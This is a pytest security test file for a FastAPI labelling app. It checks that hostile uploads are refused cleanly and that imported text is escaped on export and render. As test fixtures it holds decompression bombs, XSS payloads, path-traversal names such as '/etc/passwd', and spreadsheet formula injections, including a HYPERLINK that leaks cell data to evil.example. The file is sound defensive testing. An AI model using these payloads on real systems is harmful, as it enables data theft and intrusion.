"""R7: hostile uploads through real multipart requests: a clear 4xx and an untouched database.

Cases that need a real socket (no Content-Length, a client that hangs up) are in
``test_upload_streams.py``.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.db import Database
from app.main import create_app
from app.web.imports import UPLOAD_ID
from tests.factories import auth, create_project, import_counts
from tests.security.conftest import sign_in, snapshot

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.csv", b"text\n" + b"a" * (20 * 1024 * 1024))
    return buffer.getvalue()


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


REJECTED = [
    # (case, file name, body, form fields, status, words the message must name)
    (
        "invalid UTF-8",
        "x.csv",
        "text\nnaïve\n".encode() + b"\xff bad\n",
        {},
        422,
        ["UTF-8", "row 2"],
    ),
    ("UTF-16 with BOM", "x.csv", "text\nhello\n".encode("utf-16"), {}, 422, ["UTF-16"]),
    ("UTF-16 without BOM", "x.csv", "text\nhello\n".encode("utf-16-le"), {}, 422, ["NUL"]),
    ("gzip bomb", "x.csv", gzip.compress(b"text\n" + b"a" * (20 << 20)), {}, 422, ["gzip"]),
    ("zip bomb", "x.csv", _zip_bomb(), {}, 422, ["ZIP"]),
    ("gzip by name", "x.csv.gz", gzip.compress(b"text\nhello\n"), {}, 415, [".gz", "format"]),
    ("PNG renamed .csv", "photo.csv", PNG, {}, 422, ["PNG"]),
    ("duplicate ids", "x.csv", b"id,text\n7,a\n7,b\n", {}, 422, ["row 2", "'7'", "twice"]),
    ("missing text column", "x.csv", b"id,body\n1,hello\n", {}, 422, ['"text"', "id, body"]),
    ("missing text field", "x.jsonl", b'{"text": "a"}\n{"body": "b"}\n', {}, 422, ["row 2"]),
    (
        "1 MB single field",
        "x.csv",
        b"text\n" + b"a" * (1 << 20) + b"\n",
        {},
        422,
        ["row 1", "1048576 characters", "100000"],
    ),
    (
        "JSON nested 10,000 deep (array file)",
        "x.json",
        f'[{{"text": "a", "extra": {_nested(10_000)}}}]'.encode(),
        {},
        422,
        ["row 1", "nested"],
    ),
    ("JSON nested 10,000 deep (top level)", "x.json", _nested(10_000).encode(), {}, 422, ["row 1"]),
    (
        "JSON nested 10,000 deep (JSON Lines)",
        "x.jsonl",
        f'{{"text": "a", "extra": {_nested(10_000)}}}\n'.encode(),
        {},
        422,
        ["row 1", "nested"],
    ),
    ("semicolons, no text", "x.csv", b"body;label\nhi;food\n", {}, 422, ['"text"', "body, label"]),
    ("ragged row", "x.csv", b"text,label\na,food\nb,food,extra\n", {}, 422, ["row 2", "3 fields"]),
    ("short row without text", "x.csv", b"id,text\n1,a\n2\n", {}, 422, ["row 2", '"text"']),
    ("unterminated quote", "x.csv", b'text\n"open\nmore\n', {}, 422, ["row 1", "unterminated"]),
    ("NUL byte", "x.csv", b"text\nfine\nbad\x00byte\n", {}, 422, ["row 2", "NUL"]),
    ("NUL escaped in JSON", "x.jsonl", b'{"text": "a\\u0000b"}\n', {}, 422, ["row 1", "NUL"]),
    ("empty file", "x.csv", b"", {}, 422, ["empty"]),
    ("only a header", "x.csv", b"text,label\n", {}, 422, ["no data rows"]),
    ("blank lines only", "x.jsonl", b"\n  \n\n", {}, 422, ["empty"]),
    ("unknown label", "x.csv", b"text,label\nhi,music\n", {}, 422, ["row 1", "'music'"]),
]


@pytest.mark.parametrize(
    ("case", "name", "data", "form", "status", "words"), REJECTED, ids=[c[0] for c in REJECTED]
)
def test_bad_upload_is_refused_clearly_and_writes_nothing(
    client: TestClient,
    db: Database,
    admin: str,
    case: str,
    name: str,
    data: bytes,
    form: dict[str, str],
    status: int,
    words: list[str],
) -> None:
    project = create_project(db, n_items=5, n_labeled=2)
    before = snapshot(db)
    response = _upload(client, project.id, admin, name, data, **form)
    assert response.status_code == status, response.text
    detail = response.json()["detail"]
    for word in words:
        assert word in detail, (case, detail)
    assert snapshot(db) == before


def _upload(client: TestClient, pid: int, token: str, name: str, data: bytes, **form: str):
    return client.post(
        f"/api/v1/projects/{pid}/imports",
        files={"file": (name, data, "application/octet-stream")},
        data=form,
        headers=auth(token),
    )


def test_existing_ids_are_refused(client: TestClient, db: Database, admin: str) -> None:
    project = create_project(db, n_items=5)  # ids t0..t4
    before = snapshot(db)
    response = _upload(client, project.id, admin, "x.csv", b"id,text\nnew1,fresh\nt3,other\n")
    assert response.status_code == 422
    assert "row 2 (line 3): id 't3' already exists in the project" in response.json()["detail"]
    assert snapshot(db) == before


def test_utf8_bom_is_accepted_and_stripped(client: TestClient, db: Database, admin: str) -> None:
    project = create_project(db)
    data = "\ufefftext,label\nhello there,\nseed text,food\n".encode()
    response = _upload(client, project.id, admin, "x.csv", data)
    assert response.status_code == 201, response.text
    assert import_counts(response) == {"imported": 2, "duplicates": 0, "labeled": 1}
    items = client.get(f"/api/v1/projects/{project.id}/queue", headers=auth(admin)).json()
    assert [i["text"] for i in items["items"]] == ["hello there"]


def test_short_row_with_its_text_is_accepted(client: TestClient, db: Database, admin: str) -> None:
    """A row that stops early (no trailing empty label) is read as having no label."""
    project = create_project(db)
    response = _upload(client, project.id, admin, "x.csv", b"text,label\na,food\nb\n")
    assert response.status_code == 201 and response.json()["labeled"] == 1


def test_the_same_file_twice_adds_nothing(client: TestClient, db: Database, admin: str) -> None:
    project = create_project(db)
    data = b"id,text,label\n1,first,food\n2,second,\n"
    assert _upload(client, project.id, admin, "a.csv", data).json()["imported"] == 2
    before = snapshot(db)
    again = _upload(client, project.id, admin, "a.csv", data)
    assert again.status_code == 201
    assert import_counts(again) == {"imported": 0, "duplicates": 2, "labeled": 0}
    assert snapshot(db) == before


def test_body_over_the_limit_is_413(settings: Settings, db: Database, admin: str) -> None:
    project = create_project(db)
    small = settings.model_copy(update={"max_upload_bytes": 64 * 1024})
    with TestClient(create_app(small, worker=False)) as client:
        before = snapshot(db)
        response = _upload(client, project.id, admin, "x.csv", b"text\n" + b"a\n" * 40_000)
        assert response.status_code == 413
        assert "over the limit of 65536 bytes" in response.json()["detail"]
    assert snapshot(db) == before


def _multipart(parts: list[tuple[str, str | None, bytes]]) -> tuple[bytes, str]:
    """Encode (field, file name or None, value) parts; returns the body and its content type."""
    boundary = "labelloop-test-boundary"
    chunks = []
    for field, filename, value in parts:
        disposition = f'form-data; name="{field}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        chunks.append(f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n".encode())
        chunks.append(value + b"\r\n")
    chunks.append(f"--{boundary}--\r\n".encode())
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize(
    ("parts", "message"),
    [
        ([(f"f{i}", None, b"x") for i in range(10_000)], "Too many fields"),
        ([("file", f"{i}.csv", b"text\nhello\n") for i in range(2_000)], "Too many files"),
    ],
    ids=["10,000 fields", "2,000 files"],
)
def test_too_many_multipart_parts_are_refused(
    client: TestClient,
    db: Database,
    admin: str,
    parts: list[tuple[str, str | None, bytes]],
    message: str,
) -> None:
    project = create_project(db)
    before = snapshot(db)
    body, content_type = _multipart([("file", "x.csv", b"text\nhello\n"), *parts])
    response = client.post(
        f"/api/v1/projects/{project.id}/imports",
        content=body,
        headers={**auth(admin), "Content-Type": content_type},
    )
    assert response.status_code == 400, response.text
    assert message in response.json()["detail"]
    assert snapshot(db) == before


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_data_and_escaped_on_csv_export(
    client: TestClient, db: Database, admin: str
) -> None:
    project = create_project(db, labels=["=bad", "ok"])
    rows = [{"id": f"={i}", "text": text, "label": "=bad"} for i, text in enumerate(FORMULAS)]
    body = "\n".join(json.dumps(r) for r in rows).encode()
    response = _upload(client, project.id, admin, "x.jsonl", body)
    assert response.status_code == 201 and response.json()["imported"] == len(FORMULAS)
    exported = client.get(f"/api/v1/projects/{project.id}/export", headers=auth(admin))
    records = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(r["text"] for r in records) == sorted("'" + f for f in FORMULAS)
    assert {r["label"] for r in records} == {"'=bad"}
    assert all(r["external_id"].startswith("'=") for r in records)
    jsonl = client.get(
        f"/api/v1/projects/{project.id}/export?format=jsonl", headers=auth(admin)
    ).text
    assert sorted(json.loads(line)["text"] for line in jsonl.splitlines()) == sorted(FORMULAS)


def test_html_in_text_is_stored_as_is_and_rendered_inert(
    client: TestClient, db: Database, admin: str
) -> None:
    script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    project = create_project(db)
    rows = [{"text": f"{script} for the API"}, {"text": f"{script} for the page"}]
    body = "\n".join(json.dumps(r) for r in rows).encode()
    assert _upload(client, project.id, admin, "x.jsonl", body).status_code == 201
    api = client.get(f"/api/v1/projects/{project.id}/queue?limit=1", headers=auth(admin))
    assert api.headers["content-type"] == "application/json"
    (served,) = api.json()["items"]
    assert served["text"] in {r["text"] for r in rows}  # stored and served verbatim
    sign_in(client, db, name="bo", role="annotator")
    page = client.get(f"/projects/{project.id}/annotate")
    assert page.status_code == 200
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "<script>alert(1)" not in page.text and "<img src=x" not in page.text


HOSTILE_NAMES = ["../../x.csv", "/etc/cron.d/x.csv", "a" * 296 + ".csv", "<b>x</b>\r\n.csv"]


def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() and "labelloop.db" not in p.name}


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["dotdot", "absolute", "300 chars", "markup"])
def test_api_never_uses_the_file_name_as_a_path(
    client: TestClient, db: Database, admin: str, tmp_path: Path, name: str
) -> None:
    project = create_project(db)
    before = _files_under(tmp_path)
    response = _upload(client, project.id, admin, name, b"text\nhello\n")
    assert response.status_code == 201, response.text
    assert _files_under(tmp_path) == before
    assert not (tmp_path.parent.parent / "x.csv").exists()


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["dotdot", "absolute", "300 chars", "markup"])
def test_web_preview_stores_under_a_random_id(
    client: TestClient, db: Database, settings: Settings, tmp_path: Path, name: str
) -> None:
    project = create_project(db)
    token = sign_in(client, db)
    before = _files_under(tmp_path)
    response = client.post(
        f"/projects/{project.id}/import/preview",
        files={"file": (name, b"text\nhello\n", "text/csv")},
        headers={"X-CSRF-Token": token, "HX-Request": "true"},
    )
    assert response.status_code == 200, response.text
    added = _files_under(tmp_path) - before
    assert len(added) == 1
    (stored,) = added
    assert stored.parent == settings.data_dir / "uploads" and UPLOAD_ID.match(stored.name)
    assert "<b>x</b>" not in response.text


def test_web_import_refuses_an_upload_id_that_is_a_path(client: TestClient, db: Database) -> None:
    project = create_project(db)
    token = sign_in(client, db)
    before = snapshot(db)
    for upload_id in ("../../secret_key", "/etc/passwd", "../labelloop.db"):
        response = client.post(
            f"/projects/{project.id}/import",
            data={"upload_id": upload_id, "text_field": "text", "csrf_token": token},
        )
        assert response.status_code == 422 and "expired" in response.text
    assert snapshot(db) == before
